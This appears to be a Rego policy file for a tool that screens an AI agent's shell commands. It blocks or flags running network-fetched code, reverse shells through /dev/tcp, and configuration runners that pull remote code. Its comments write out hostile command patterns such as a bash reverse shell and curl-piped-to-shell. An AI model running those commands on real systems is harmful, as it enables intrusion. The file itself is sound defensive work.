# METADATA
# title: Remote code execution
# description: >-
#   Denies running code fetched from the network in the same command: a download piped
#   into an interpreter that executes its standard input (curl | sh, wget -O- | bash,
#   curl | python3 -, curl | xargs sh -c, curl | tee >(sh)), an interpreter or the shell
#   fed by process or command substitution of a download (bash <(curl …),
#   sh -c "$(curl …)", eval "$(curl …)", $(curl …)), download-then-execute chains
#   (curl -o x.sh … && sh x.sh, wget …/tool; chmod +x tool; ./tool) and shell
#   redirects to /dev/tcp or /dev/udp (reverse shells). Configuration management that
#   runs what it fetches is the same: ansible-pull -U URL, ansible-playbook URL,
#   salt-call --master HOST, puppet agent --server HOST, chef-client/chef-solo -r URL
#   (--recipe-url, -S/--server), a download piped into or saved and then given to
#   ansible-playbook, puppet apply, salt-call, chef-apply; cfn-init (commands from a
#   stack's metadata) asks. A playbook or manifest of the project passes. A repository
#   fetched by gh/glab repo clone, degit, svn, hg, git submodule add, git pull URL, …
#   and then run asks, like git clone URL && make.
# custom:
#   severity: critical
#   rationale: >-
#     Piping a download into a shell runs whatever the server (or anyone on the path)
#     sends, unreviewed, with the developer's credentials; it is also the classic
#     prompt-injection payload. The check follows data through pipes, subshells,
#     groups, nested shells, xargs and substitutions on the parsed command, and knows
#     which interpreter invocations execute their input (curl | python3 -m json.tool
#     and curl | jq stay allowed). Download the script, read it, then run it as a
#     separate, reviewable step.
#   routing:
#     events: [PreToolUse, PermissionRequest]
#     tool_classes: [shell, mcp, other]
#     tools: [NotebookEdit, Task, Agent, Write, Edit, MultiEdit]
package claude_rego.policies.remote_exec

import data.claude_rego.lib.paths
import data.claude_rego.lib.shell
import data.claude_rego.lib.shell.segments
import rego.v1

advice := "Download the file first, review it, and run it in a separate step."

fetches(seg) if shell.runs_any(seg, data.claude_rego.lib.shell.downloaders)

# the segment whose standard input an interpreter reads: `tee >(sh)` reads what tee
# writes; `xargs sh -c` runs what xargs reads
_input_node(run) := shell.by_id(run.parent) if {
	run.context in {"xargs", "process_substitution"}
} else := run

# interpreter runs what arrives on its standard input (or, under xargs, as arguments)
_runs_its_input(run) if shell.stdin_exec(run)

_runs_its_input(run) if {
	run.context == "xargs"
	shell.interpreter(run)
}

_runs_its_input(run) if {
	run.context == "xargs"
	shell.name(run) == "eval"
}

# curl … | sh
deny contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	some run in segments
	_runs_its_input(run)
	_fed_from(fetch, _input_node(run))
	msg := sprintf("Blocked: `%s` pipes a download into `%s`, which runs remote code unreviewed. %s", [shell.name(fetch), shell.name(run), advice])
}

_fed_from(fetch, node) if shell.upstream(fetch, node)

_fed_from(fetch, node) if {
	some mid in segments
	mid.id == fetch.parent
	mid.context != "process_substitution"
	shell.upstream(mid, node)
}

_fed_from(fetch, node) if {
	some mid in segments
	some top in segments
	mid.id == fetch.parent
	top.id == mid.parent
	shell.upstream(top, node)
}

# bash <(curl …), sh -c "$(curl …)", eval "$(curl …)", source <(curl …), $(curl …)
deny contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	fetch.context in {"substitution", "process_substitution"}
	host := shell.by_id(fetch.parent)
	_executesshell.substitution(host)
	msg := sprintf("Blocked: `%s` executes the output of `%s` directly, which runs code from the network unreviewed. %s", [concat(" ", host.argv), concat(" ", fetch.argv), advice])
}

# the substitution is the program itself ($(curl x))
_executesshell.substitution(host) if shell.substitution(host.command)

# … or an interpreter's script or -c/-e payload
_executesshell.substitution(host) if {
	shell.interpreter(host)
	ops := shell.script_operands(host)
	count(ops) > 0
	shell.substitution(ops[0])
}

_executesshell.substitution(host) if {
	shell.interpreter(host)
	some i, flag in shell.args(host)
	regex.match(`^-[A-Za-z]*[cerE][A-Za-z]*$|^--eval$|^-Command$`, flag)
	shell.substitution(shell.args(host)[i + 1])
}

# curl -o i.sh … && sh i.sh; wget …/tool; chmod +x tool; ./tool
deny contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	_segment_after(fetch)
	names := downloaded(fetch)
	some run in segments
	run.id > fetch.id
	executed := _executes_file(run, names)
	msg := sprintf("Blocked: this command downloads `%s` with `%s` and then executes it (`%s`) in one go. %s", [executed, shell.name(fetch), concat(" ", run.argv), advice])
}

# file names a download produces: -o/-O values, URL file names, redirect targets
downloaded(fetch) := ({_file_name(a) | some a in shell.operands(fetch)} | _redirected(fetch)) - {""}

_redirected(fetch) := {_file_name(r.target) |
	some r in fetch.redirects
	r.op in {">", ">>", ">|", "&>"}
	not r.dup
}

_file_name(word) := lower(shell.basename(regex.replace(word, `[?#].*$`, "")))

_executes_file(run, names) := script if {
	shell.interpreter(run)
	not shell.stdin_exec(run)
	ops := shell.script_operands(run)
	count(ops) > 0
	script := _file_name(ops[0])
	script in names
} else := shell.name(run) if {
	not shell.interpreter(run)
	shell.name(run) in names
}

# bash -i >& /dev/tcp/host/port 0>&1, exec 3<>/dev/udp/…
deny contains msg if {
	some seg in data.claude_rego.lib.shell.with_redirects
	some r in seg.redirects
	regex.match(`^/dev/(tcp|udp)/`, r.target)
	msg := sprintf("Blocked: `%s` connects the shell to the network through %s (a reverse shell or raw network channel). Use a normal client such as curl, and never give a remote end a shell.", [concat(" ", seg.argv), r.target])
}

# curl … | tee run.sh && bash run.sh
downloaded_by_tee(fetch) := {_file_name(a) |
	"tee" in data.claude_rego.lib.shell.names
	some tee in shell.running({"tee"})
	shell.upstream(fetch, tee)
	some a in shell.operands(tee)
}

deny contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	_segment_after(fetch)
	names := downloaded_by_tee(fetch)
	count(names) > 0
	some run in segments
	run.id > fetch.id
	executed := _executes_file(run, names)
	msg := sprintf("Blocked: this command downloads `%s` with `%s` and then executes it (`%s`) in one go. %s", [executed, shell.name(fetch), concat(" ", run.argv), advice])
}

# a downloaded file used by a later command (pip install p.whl, java -jar p.jar, a .so
# loaded by inline code), or code fetched in a form whose file names are not known
# (wget -r, an archive that is extracted, git clone DIR) followed by local code from it
ask contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	_segment_after(fetch)
	names := downloaded(fetch) | downloaded_by_tee(fetch)
	some run in segments
	run.id > fetch.id
	_uses_file(run, names)
	msg := sprintf("This command downloads code with `%s` and then uses it (`%s`) in one go. %s", [shell.name(fetch), concat(" ", run.argv), advice])
}

_uses_file(run, names) if {
	not shell.runs_any(run, _download_readers)
	not _sed_prints(run)
	some a in run.args
	_file_name(a) in names
	regex.match(`\.(whl|jar|so|dylib|dll|node|egg|gem|tgz|tar\.gz|zip|deb|rpm|pkg|dmg|msi|apk|sh|py|pl|rb|js|php|bin|run|appimage)$`, lower(a))
}

# programs that only read, list, unpack, checksum or verify a downloaded file: reading a
# download for review is not running it
_download_readers := {
	"tar", "unzip", "gunzip", "sha256sum", "sha1sum", "sha512sum", "sha384sum", "sha224sum", "b2sum", "sha3sum",
	"shasum", "md5sum", "cksum", "cat", "less", "more", "head", "tail", "file", "ls", "stat", "wc", "jq", "gpg",
	"gpgv", "cosign", "minisign", "grep", "egrep", "fgrep", "rg", "diff", "cmp", "bat", "batcat", "xxd", "hexdump",
	"od", "strings", "nl", "shellcheck", "rm", "unlink", "du",
}

# sed that prints lines (`sed -n '1,40p' f`, `sed 5q f`): no in-place edit, no script file,
# a script of line addresses and the print/quit/line-number commands only (no `e`, `w`, `r`)
_sed_prints(run) if {
	shell.runs_any(run, {"sed", "gsed"})
	args := shell.args(run)
	every a in args {
		not _sed_risky_flag(a)
	}
	some script in args
	not startswith(script, "-")
	regex.match(`^(\s*[0-9$]*\s*([,~]\s*\+?[0-9$]+)?\s*[pPlq=]?[0-9]*\s*;?)+$`, script)
}

# an in-place edit, a script file or expression, a null-data or separate mode: only
# `-n`, `-E`/`-r`, `--posix` and `--` are taken as harmless
_sed_risky_flag(a) if {
	not a in {"-n", "--quiet", "--silent", "-E", "-r", "--regexp-extended", "--posix", "--"}
	regex.match(`^-`, a)
}

_uses_file(run, names) if {
	run.context == "interpreter_code"
	some a in run.args
	_file_name(a) in names
}

ask contains msg if {
	some ran in (data.claude_rego.lib.shell.downloaders | {"git"}) & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	_segment_after(fetch)
	_fetches_unknown_files(fetch)
	some run in segments
	run.id > fetch.id
	_runs_local_code(run)
	msg := sprintf("This command fetches code (`%s`) whose files are not known in advance and then runs local code (`%s`). %s", [concat(" ", fetch.argv), concat(" ", run.argv), advice])
}

# wget -r/-m, a download that is then extracted, git clone
_fetches_unknown_files(seg) if {
	shell.runs(seg, "wget")
	some a in shell.args(seg)
	regex.match(`^(-[A-Za-z]*[rm][A-Za-z]*|--recursive|--mirror)$`, a)
}

_fetches_unknown_files(seg) if {
	shell.runs_any(seg, data.claude_rego.lib.shell.downloaders)
	names := downloaded(seg)
	some ran in {"tar", "unzip", "7z", "bsdtar"} & data.claude_rego.lib.shell.names
	some ex in shell.running({ran})
	ex.id > seg.id
	some a in ex.args
	_file_name(a) in names
}

_fetches_unknown_files(seg) if {
	shell.runs(seg, "git")
	some a in shell.args(seg)
	a in {"clone"}
}

_runs_local_code(run) if {
	count(run.argv) > 0
	contains(run.argv[0], "/")
	not shell.interpreter(run)
	not startswith(run.argv[0], "/usr/")
	not startswith(run.argv[0], "/bin/")
}

_runs_local_code(run) if {
	shell.interpreter(run)
	family := shell.family(run)
	family != "source"
	not shell.eval_flag(run)
	some op in shell.script_operands(run)
	contains(op, "/")
}

_runs_local_code(run) if {
	count(run.argv) > 0
	shell.cwd_at(run) != input.facts.cwd
	_executes_something(run)
}

_runs_local_code(run) if {
	shell.runs_any(run, {"make", "gmake"})
	some a in shell.args(run)
	a in {"-C", "--directory"}
}

_runs_local_code(run) if {
	shell.runs_any(run, {"pip", "pip3", "npm", "pnpm", "yarn", "gem", "cargo", "uv"})
	some a in shell.args(run)
	a in {"install", "i", "add"}
	some b in shell.args(run)
	_local_package(b)
}

_executes_something(run) if contains(run.argv[0], "/")

_executes_something(run) if shell.runs_any(run, {"make", "gmake", "cmake", "ninja", "npm", "pnpm", "yarn", "pip", "pip3", "cargo", "go", "python", "python3", "sh", "bash"})

_local_package(b) if b in {"-e", "--editable", ".", "--path"}

_local_package(b) if startswith(b, "./")

_local_package(b) if startswith(b, "/")

# zsh's own TCP modules (zmodload zsh/net/tcp; ztcp host port; zsh >&$REPLY): a raw
# network channel like /dev/tcp, marked by the facts layer
deny contains msg if {
	some seg in data.claude_rego.lib.shell.opaque_segments
	"shell_network_socket" in seg.opaque_reasons
	msg := sprintf("Blocked: `%s` opens a raw network socket from the shell (a reverse shell or raw network channel). Use a normal client such as curl, and never give a remote end a shell.", [concat(" ", seg.argv)])
}

# curl … | tar x && ./dir/setup: an archive extracted from a download's stream, then local code
ask contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	some ran2 in {"tar", "bsdtar", "unzip", "7z", "cpio", "busybox"} & data.claude_rego.lib.shell.names
	some ex in shell.running({ran2})
	shell.upstream(fetch, ex)
	some run in segments
	run.id > ex.id
	_runs_local_code(run)
	msg := sprintf("This command extracts a download (`%s | %s`) and then runs local code (`%s`) whose content is not known in advance. %s", [shell.name(fetch), shell.name(ex), concat(" ", run.argv), advice])
}

# a downloaded editor or browser extension installed in the same command
ask contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	_segment_after(fetch)
	names := downloaded(fetch) | downloaded_by_tee(fetch)
	some run in segments
	run.id > fetch.id
	some a in run.args
	_file_name(a) in names
	regex.match(`\.(vsix|xpi|crx|oxt|sublime-package|jetbrains|vim|kext|pkg|mpack)$`, lower(a))
	msg := sprintf("This command downloads code with `%s` and then installs it (`%s`) in one go. %s", [shell.name(fetch), concat(" ", run.argv), advice])
}

# java -jar <(curl …), awk -f <(wget -O- …), make -f <(curl …): a download handed to a
# program as the program (or script) it runs, through a process substitution, is curl | sh.
# A download given to a program that only reads data (diff <(curl …) f, sha256sum <(…),
# jq . <(…)) passes; one given to a program claude-rego does not know asks.
_program_runners := {
	"java", "javaw", "jshell", "kotlin", "kotlinc", "scala", "groovy", "dotnet", "mono", "deno", "bun", "ts-node", "tsx",
	"rscript", "r", "julia", "escript", "elixir", "iex", "erl", "ocaml", "swift", "wasmtime", "wasmer", "make", "gmake",
	"awk", "gawk", "mawk", "nawk", "sed", "gsed", "gdb", "lldb", "vim", "nvim", "vi", "ex", "emacs", "at", "batch",
	"crontab", "busybox", "jrunscript", "jjs", "clojure", "clj", "racket", "guile", "sbcl", "tclsh", "wish", "expect",
	"osascript", "powershell", "pwsh", "cmake", "ninja", "just", "task", "nix-shell", "sqlite3",
	"psql", "mysql", "m4", "dc", "bc", "ld.so", "ld-linux-x86-64.so.2",
	"ansible-playbook", "ansible-pull", "puppet", "salt-call", "salt-ssh", "chef-client", "chef-solo", "chef-apply",
	"cinc-client", "cinc-solo", "cinc-apply",
}

_code_file_flags := {"-f", "-x", "-S", "-l", "-P", "-jar", "-cp", "-classpath", "--classpath", "--load", "--init-file", "--rcfile", "--script", "--file", "--command", "-E", "--eval-file", "-u"}

_data_readers := {
	"diff", "diff3", "sdiff", "colordiff", "icdiff", "delta", "cmp", "comm", "cat", "tac", "tee", "grep", "egrep", "fgrep",
	"rg", "ag", "jq", "yq", "gojq", "jless", "wc", "sort", "uniq", "head", "tail", "less", "more", "sha256sum", "sha1sum",
	"sha512sum", "sha384sum", "sha224sum", "md5sum", "b2sum", "shasum", "cksum", "sum", "paste", "join", "cut", "tr",
	"column", "xxd", "hexdump", "od", "file", "strings", "nl", "fold", "fmt", "pr", "expand", "unexpand", "base64",
	"iconv", "dos2unix", "zcat", "gunzip", "bzcat", "xzcat", "zstdcat", "json_pp", "xmllint",
	"csvlook", "mlr", "bat", "printf", "echo", "read", "mapfile", "readarray", "wdiff", "vimdiff", "code", "openssl",
	"gpg", "gpgv", "minisign", "cosign", "ssh-keygen", "sha3sum", "git",
}

_substituted_download(fetch) := host if {
	fetch.context == "process_substitution"
	host := shell.by_id(fetch.parent)
	some a in shell.args(host)
	shell.substitution(a)
}

deny contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	host := _substituted_download(fetch)
	_runs_substituted_program(host)
	msg := sprintf("Blocked: `%s` runs the output of `%s` as its program, which runs code from the network unreviewed. %s", [concat(" ", host.argv), concat(" ", fetch.argv), advice])
}

_runs_substituted_program(host) if shell.name(host) in _program_runners

_runs_substituted_program(host) if {
	some i, flag in shell.args(host)
	flag in _code_file_flags
	shell.substitution(shell.args(host)[i + 1])
}

ask contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	host := _substituted_download(fetch)
	not _runs_substituted_program(host)
	not shell.interpreter(host)
	reader := shell.name(host)
	not reader in _data_readers
	msg := sprintf("`%s` is given the output of `%s` as a file; claude-rego does not know whether it reads it as data or runs it. Approve only if it only reads it.", [concat(" ", host.argv), concat(" ", fetch.argv)])
}

# ------------------------------------------------------------ configuration management

# Configuration-management runners run the code they are given with the machine's rights:
# a playbook, a manifest, a recipe, a state. Given a URL, a repository or a server to take
# it from, they run remote code unreviewed, like curl | sh: ansible-pull -U URL,
# ansible-playbook https://…, salt-call --master HOST (states the master serves), puppet
# agent --server HOST, chef-client -z -r URL / --recipe-url URL / -S URL, chef-solo -r URL.
# `ansible-playbook -i inventory site.yml`, `salt-call --local …`, `puppet apply site.pp`
# of the project pass.
_config_runners := {
	"ansible-pull", "ansible-playbook", "salt-call", "puppet", "chef-client", "chef-solo", "chef-apply", "cinc-client",
	"cinc-solo", "cinc-apply", "mgmt",
}

# runners whose operand is the code itself (a playbook, a manifest, a recipe); salt-call's
# operands are a function and its data (`cp.get_url https://… /tmp/x`)
_code_operand_runners := {"ansible-playbook", "puppet", "chef-apply", "cinc-apply", "mgmt"}

# options that name where the code comes from: ansible-pull's repository, salt's master,
# puppet's server, chef's recipe archive and server
_config_source_options := {
	"ansible-pull": {"-U", "--url"},
	"salt-call": {"--master"},
	"puppet": {"--server", "--masterport", "--server_list", "--ca_server"},
	"chef-client": {"-r", "--recipe-url", "-S", "--server"},
	"chef-solo": {"-r", "--recipe-url"},
	"cinc-client": {"-r", "--recipe-url", "-S", "--server"},
	"cinc-solo": {"-r", "--recipe-url"},
}

deny contains msg if {
	some ran in _config_runners & data.claude_rego.lib.shell.names
	some seg in shell.running({ran})
	src := _config_remote_source(seg)
	msg := sprintf("Blocked: `%s` runs configuration code taken from `%s` (a remote repository, server or URL) with this machine's rights, unreviewed, like curl | sh. Fetch it, review it, then run the reviewed copy in a separate step.", [concat(" ", seg.argv), src])
}

# an option naming the source: -U URL, --url=URL, --master HOST, -r URL
_config_remote_source(seg) := v if {
	opts := _config_source_options[shell.name(seg)]
	args := shell.args(seg)
	some i, a in args
	a in opts
	i + 1 < count(args)
	v := args[i + 1]
} else := v if {
	opts := _config_source_options[shell.name(seg)]
	some a in shell.args(seg)
	some o in opts
	startswith(o, "--")
	startswith(a, concat("", [o, "="]))
	v := substring(a, count(o) + 1, -1)
} else := v if {
	# a playbook, manifest or recipe given as a URL (ansible-playbook https://…/pb.yml)
	shell.name(seg) in _code_operand_runners
	some v in shell.operands(seg)
	_remote_ref(v)
}

_remote_ref(v) if regex.match(`(?i)^(https?|ftp|s3|gs|git|ssh|git\+[a-z]+)://`, v)

_remote_ref(v) if regex.match(`^[A-Za-z0-9._-]+@[A-Za-z0-9.-]+:`, v)

# ansible-pull fetches and runs a repository whatever its -U says (a local path too): its
# source is read above; without one it asks (the source is in ansible.cfg or ANSIBLE_* )
ask contains msg if {
	"ansible-pull" in data.claude_rego.lib.shell.names
	some seg in shell.running({"ansible-pull"})
	not _config_remote_source(seg)
	msg := sprintf("`%s` pulls a repository and runs its playbook with this machine's rights; claude-rego cannot tell where from. Approve only if you trust that repository.", [concat(" ", seg.argv)])
}

# cfn-init runs the commands, packages and files of a CloudFormation stack's metadata
ask contains msg if {
	"cfn-init" in data.claude_rego.lib.shell.names
	some seg in shell.running({"cfn-init"})
	msg := sprintf("`%s` runs the commands and installs the packages a CloudFormation stack's metadata names, with this machine's rights; that code is not in this command. Approve only if you trust that stack.", [concat(" ", seg.argv)])
}

# curl … | puppet apply, curl … | ansible-playbook /dev/stdin, wget -O- … | salt-call
# --local state.template /dev/stdin, curl … | chef-apply -s: a download fed to a runner's input
deny contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	some cr in _config_runners & data.claude_rego.lib.shell.names
	some run in shell.running({cr})
	_fed_from(fetch, run)
	msg := sprintf("Blocked: `%s` feeds a download into `%s`, which runs it as configuration code with this machine's rights, unreviewed. %s", [shell.name(fetch), concat(" ", run.argv), advice])
}

# a playbook, manifest or recipe written earlier in the same command (`echo '…' > $TF;
# ansible-playbook $TF`, `cat > site.pp <<EOF … EOF; puppet apply site.pp`): configuration code
# that runs with this machine's rights before anyone read it as a file
ask contains msg if {
	some cr in _code_operand_runners & data.claude_rego.lib.shell.names
	some run in shell.running({cr})
	some writer in data.claude_rego.lib.shell.with_redirects # (a writer has a redirect: no pass over every segment)
	writer.id < run.id
	some r in writer.redirects
	r.op in {">", ">>", ">|", "&>"}
	is_string(r.target)
	some op in _run_words(run)
	op == r.target
	not _harmless_written_code(writer)
	msg := sprintf("`%s` runs configuration code (`%s`) written earlier in the same command. Write the file first, read it, then run it.", [concat(" ", run.argv), op])
}

# code written by echo/printf whose visible text runs no commands (`- debug: msg=hi`); what a
# here-document, cat or a download wrote cannot be read here
_harmless_written_code(writer) if {
	shell.name(writer) in {"echo", "printf"}
	text := concat(" ", shell.args(writer))
	not regex.match(`(?i)(^|[^A-Za-z0-9_])(shell|command|raw|script|expect|exec|win_shell|win_command|psexec|cmd\.run|cmd\.script|cron|get_url|uri|authorized_key|user|copy|template|lineinfile|blockinfile|file|unarchive|pip|package|apt|yum|dnf|service|systemd|include|import_[a-z]+|include_[a-z]+|roles?)[ \t]*[:=({]`, text)
	not contains(text, "$(")
	not contains(text, "`")
}

# the runner's operands, and its words as written (`$TF` where the variable has no known value)
_run_words(run) := {w | some w in shell.operands(run)} | {w | some i, w in object.get(run, "raw_words", []); i > 0; is_string(w)}

# curl -o site.pp URL && puppet apply site.pp; wget …/pb.yml; ansible-playbook pb.yml
deny contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	names := downloaded(fetch)
	some cr in _config_runners & data.claude_rego.lib.shell.names
	some run in shell.running({cr})
	run.id > fetch.id
	some op in shell.operands(run)
	f := _file_name(op)
	f in names
	msg := sprintf("Blocked: this command downloads `%s` with `%s` and then runs it as configuration code (`%s`) in one go. %s", [f, shell.name(fetch), concat(" ", run.argv), advice])
}

# ------------------------------------------------------------ fetchers by effect

# Programs that fetch files are downloaders whatever their name: a release asset
# (`gh|glab release download`, `gh run download`, `eget owner/repo`), a file copied from
# another machine (`scp host:f .`, `rsync host:f .`, `rsync rsync://…`, `sftp host:f`) or a
# bucket (`aws s3 cp s3://…`, `gsutil cp gs://…`, `gcloud storage cp`, `rclone copy`). What
# they wrote and a later part of the same command runs is remote code: from the internet
# (a release, an anonymous rsync daemon) it is denied like `wget …; ./tool`; from a host or
# bucket reached with the developer's keys it is asked about. Files fetched into a directory
# whose names are not known, followed by local code, are asked about like `git clone`.
_copy_fetchers := {"gh", "glab", "ubi", "scp", "sftp", "rsync", "aws", "gsutil", "gcloud", "rclone"}

# the fetch and where it comes from: "internet" or "host"
_copy_fetch(seg) := "internet" if {
	shell.runs_any(seg, {"gh", "glab"})
	w := [a | some a in shell.args(seg); not startswith(a, "-")]
	count(w) >= 2
	w[0] == "release"
	w[1] == "download"
} else := "host" if {
	# gh run download: a CI run's artifacts (the repository's own builds, by default)
	shell.runs_any(seg, {"gh", "glab"})
	w := [a | some a in shell.args(seg); not startswith(a, "-")]
	count(w) >= 2
	w[0] in {"run", "job"}
	w[1] in {"download", "artifact"}
} else := "internet" if {
	# ubi --project owner/repo [--in DIR]: a release binary
	shell.runs(seg, "ubi")
	some a in shell.args(seg)
	regex.match(`^(-p|--project|-u|--url)(=.*)?$`, a)
} else := "internet" if {
	shell.runs_any(seg, {"rsync", "scp", "sftp"})
	some w in _copy_sources(seg)
	regex.match(`(?i)^(rsync|https?|ftp)://`, w)
} else := "host" if {
	shell.runs_any(seg, {"rsync", "scp", "sftp"})
	count(_copy_sources(seg)) > 0
} else := "host" if {
	shell.runs_any(seg, {"aws", "gsutil", "gcloud", "rclone"})
	w := [a | some a in shell.args(seg); not startswith(a, "-")]
	some verb in array.slice(w, 0, 3)
	verb in {"cp", "copy", "copyto", "copyurl", "sync", "rsync"}
	some src in _copy_sources(seg)
	not src == w[count(w) - 1]
}

# remote sources: every operand but the last (the destination) that names another machine
# (`host:path`, `user@host:path`, `rsync://`, `scp://`) or a bucket (`s3://`, `gs://`,
# `remote:path` for rclone); sftp's single operand is its source
_copy_sources(seg) := {w |
	ops := shell.operands(seg)
	some i, w in ops
	_fetch_source_position(seg, ops, i)
	_remote_location(w)
}

_fetch_source_position(seg, ops, i) if i < count(ops) - 1

_fetch_source_position(seg, ops, 0) if {
	shell.runs(seg, "sftp")
	count(ops) == 1
}

_remote_location(w) if regex.match(`(?i)^(rsync|scp|sftp|s3|gs|az|https?|ftp)://`, w)

# host:path, user@host:path (not a local path with a colon after a slash, not a URL)
_remote_location(w) if regex.match(`^([A-Za-z0-9._-]+@)?(\[[0-9A-Fa-f:.]+\]|[A-Za-z0-9][A-Za-z0-9._-]*):[^/]?`, w)

# the file names such a fetch writes: the base names of its words (the asset pattern, the
# output file, the repository's name, the remote path, the destination) and of option values
_copy_fetched_names(seg) := {n |
	some a in shell.args(seg)
	# host:path and user@host:path name the file `path`
	v := regex.replace(_option_value_or_word(a), `^([A-Za-z0-9._-]+@)?[A-Za-z0-9][A-Za-z0-9._-]*:`, "")
	n := _file_name(trim_right(v, "/"))
	n != ""
	n != "."
}

_option_value_or_word(a) := substring(a, indexof(a, "=") + 1, -1) if {
	startswith(a, "--")
	contains(a, "=")
} else := a

_copy_fetch_segments := [seg |
	some ran in _copy_fetchers & data.claude_rego.lib.shell.names
	some seg in shell.running({ran})
	_copy_fetch(seg)
]

# a later segment runs a fetched file: an interpreter given it as its script, or the file
# run by its path (`./tool`, `/tmp/x`; a bare name is looked up on PATH, not in the
# download), named like a fetched file or under a directory the fetch names (`-D /tmp/t`)
_runs_fetched(run, fetch, names) := path if {
	path := _run_path(run)
	_fetched_path(path, fetch, names)
}

_run_path(run) := ops[0] if {
	shell.interpreter(run)
	not shell.stdin_exec(run)
	not shell.eval_flag(run)
	ops := shell.script_operands(run)
	count(ops) > 0
} else := run.argv[0] if {
	not shell.interpreter(run)
	count(run.argv) > 0
	contains(run.argv[0], "/")
} else := concat("/", [trim_right(dir, "/"), "Makefile"]) if {
	# make -C DIR runs DIR's Makefile
	shell.runs_any(run, {"make", "gmake"})
	args := shell.args(run)
	some i, a in args
	a in {"-C", "--directory"}
	dir := args[i + 1]
}

_fetched_path(path, _, names) if _fetched_name(_file_name(path), names)

_fetched_path(path, fetch, _) if {
	some a in shell.args(fetch)
	d := trim_prefix(trim_right(_option_value_or_word(a), "/"), "./")
	not d in {"", "."} # a copy into the working directory: only its own names count
	startswith(trim_prefix(path, "./"), concat("", [d, "/"]))
}

# …or inside a directory the fetch copied by name (`scp -r host:proj .` then `proj/…`)
_fetched_path(path, _, names) if {
	parts := split(trim_prefix(path, "./"), "/")
	count(parts) > 1
	lower(parts[0]) in names
}

_fetched_name(n, names) if n in names

# an asset pattern (`-p 'tool-*'`): glob.match only ever sees literals, `*` and `?`
_fetched_name(n, names) if {
	some p in names
	regex.match(`[*?\[]`, p)
	g := paths.glob_safe(p)
	paths.glob_fits(g)
	glob.match(g, null, n)
}

_copyfetch_deny contains msg if {
	some fetch in _copy_fetch_segments
	_segment_after(fetch)
	_copy_fetch(fetch) == "internet"
	names := _copy_fetched_names(fetch)
	some run in segments
	run.id > fetch.id
	executed := _runs_fetched(run, fetch, names)
	msg := sprintf("Blocked: `%s` downloads `%s` and a later part of the same command runs it (`%s`): code from the network runs unreviewed. %s", [concat(" ", fetch.argv), executed, concat(" ", run.argv), advice])
}

_copyfetch_ask contains msg if {
	some fetch in _copy_fetch_segments
	_segment_after(fetch)
	_copy_fetch(fetch) == "host"
	names := _copy_fetched_names(fetch)
	some run in segments
	run.id > fetch.id
	executed := _runs_fetched(run, fetch, names)
	msg := sprintf("`%s` copies `%s` from another machine or bucket and a later part of the same command runs it (`%s`): that code is not seen here. Copy it, read it, then run it in a separate step.", [concat(" ", fetch.argv), executed, concat(" ", run.argv)])
}

# fetched into a directory (names not known) and then local code
_copyfetch_ask contains msg if {
	some fetch in _copy_fetch_segments
	_segment_after(fetch)
	names := _copy_fetched_names(fetch)
	some run in segments
	run.id > fetch.id
	not _runs_fetched(run, fetch, names)
	_fetched_unknown(fetch, run)
	_runs_local_code(run)
	msg := sprintf("This command fetches files (`%s`) whose names are not all known in advance and then runs local code (`%s`). %s", [concat(" ", fetch.argv), concat(" ", run.argv), advice])
}

# every asset of a release (no pattern, no output file), or local code run after a `cd`
# (into what was copied, perhaps)
_fetched_unknown(fetch, _) if {
	shell.runs_any(fetch, {"gh", "glab"})
	not _names_assets(fetch)
}

_fetched_unknown(fetch, run) if shell.cwd_at(run) != shell.cwd_at(fetch)

_names_assets(fetch) if {
	some a in shell.args(fetch)
	regex.match(`^(-p|--pattern|-O|--output|-A|--archive)(=.*)?$|^-[pO].`, a)
}

# an archive the fetch wrote, extracted later in the command
_fetched_unknown(fetch, run) if {
	some ran in {"tar", "bsdtar", "unzip", "7z"} & data.claude_rego.lib.shell.names
	some ex in shell.running({ran})
	ex.id > fetch.id
	ex.id < run.id
}

# gh release download … -O - | sh, scp host:x /dev/stdout | bash: a fetch written to the
# standard output and piped into an interpreter, like curl | sh
_copyfetch_deny contains msg if {
	some fetch in _copy_fetch_segments
	some run in segments
	_runs_its_input(run)
	_fed_from(fetch, _input_node(run))
	msg := sprintf("Blocked: `%s` pipes what it fetches into `%s`, which runs remote code unreviewed. %s", [concat(" ", fetch.argv), shell.name(run), advice])
}

# ------------------------------------------------------------ other repository fetchers

# Fetchers of a whole repository other than `git clone` (session 27): `gh|glab repo clone`,
# `gh repo fork --clone`, `gh gist clone`, `hub clone`, `degit`/`tiged` (also through npx),
# `svn checkout|export`, `hg clone`, `bzr branch`, `fossil clone`, `darcs clone`, `pijul
# clone`, `sl clone`, `jj git clone`, `ghq get`, `git submodule add URL`: followed by local
# code from it, asked like `git clone URL && make`. Fetches into the working tree itself
# (`git pull URL`, `git fetch URL` then `checkout FETCH_HEAD`, `gh run download -R other/repo`)
# make the tree's own build and scripts the fetched code: any later program that runs code
# there (make, npm install, a script) is asked too. A clone alone, and `git pull` from a
# configured remote, pass.
ask contains msg if {
	some ran in _repo_fetchers & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	_segment_after(fetch) # (first: `git status` alone skips the fetch tests)
	kind := _fetches_repository(fetch)
	some run in segments
	run.id > fetch.id
	_runs_fetched_code(kind, run)
